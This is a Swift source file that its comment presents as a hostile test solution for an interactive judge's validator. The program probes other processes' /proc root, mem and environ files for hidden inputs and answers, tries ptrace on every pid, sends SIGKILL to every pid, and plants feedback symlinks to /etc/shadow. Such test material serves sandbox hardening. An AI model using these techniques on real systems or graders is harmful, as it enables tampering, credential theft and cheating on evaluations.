import Glibc

// An interactive solution that goes after its validator instead of answering: it looks for any other
// process (in /proc, and by pid through /proc/<pid>/root and /proc/<pid>/mem), tries to read the hidden
// input and answer through another process's root, attaches to every pid it can with ptrace, signals
// every pid with SIGKILL, and plants judgemessage.txt links where a feedback folder might be. Then it
// answers nothing. Whatever it tries, the validator must see a solution that gave up: WA, never AC or JE.
@_silgen_name("syscall") func rawSyscall(_ number: Int, _ a: Int, _ b: Int, _ c: Int, _ d: Int) -> Int
#if arch(x86_64)
    let ptraceCall = 101
#else
    let ptraceCall = 117
#endif
var found: [String] = []
for pid in 1...4096 where pid != Int(getpid()) {
    for file in ["root/judge/input", "root/judge/answer", "cwd", "mem", "environ"] {
        let path = "/proc/\(pid)/\(file)"
        let handle = open(path, O_RDONLY | O_NONBLOCK)
        if handle >= 0 {
            found.append(path)
            close(handle)
        }
    }
    // PTRACE_ATTACH, then PTRACE_SEIZE.
    if rawSyscall(ptraceCall, 16, pid, 0, 0) == 0 { found.append("ptrace \(pid)") }
    if rawSyscall(ptraceCall, 0x4206, pid, 0, 0) == 0 { found.append("seize \(pid)") }
    if pid != 1 && kill(pid_t(pid), SIGKILL) == 0 { found.append("kill \(pid)") }
}
for folder in ["/judge/feedback", "/feedback", "/tmp/feedback", "../feedback", "feedback"] {
    _ = symlink("/etc/shadow", folder + "/judgemessage.txt")
}
fputs("found: \(found)\n", stderr)
// No question, no answer: the validator reads end of input.
exit(0)
